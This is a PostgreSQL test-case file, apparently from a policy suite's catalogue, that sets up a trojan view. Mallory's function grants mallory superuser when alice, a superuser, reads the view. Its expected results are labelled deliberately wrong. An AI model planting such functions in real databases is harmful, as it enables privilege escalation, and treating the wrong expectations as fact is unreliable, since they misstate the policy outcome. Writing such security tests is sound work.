/*---
title: A view whose expectation is deliberately wrong
pattern: Trojan function behind a view (test catalogue of the suite runner)
description: >
  alice reads mallory's view, whose function makes mallory a superuser. The file claims that
  ddl-needs-trusted-chain allows it and that mallory stays an ordinary role: both are wrong.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "f"
expect:
  permissive: allowed
  ddl-needs-trusted-chain: allowed
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.f_evil(i integer) RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE mallory SUPERUSER';
    RETURN i;
END $$;
CREATE VIEW mallory.v_bait AS SELECT mallory.f_evil(1) AS x;
GRANT SELECT ON mallory.v_bait TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT * FROM mallory.v_bait;
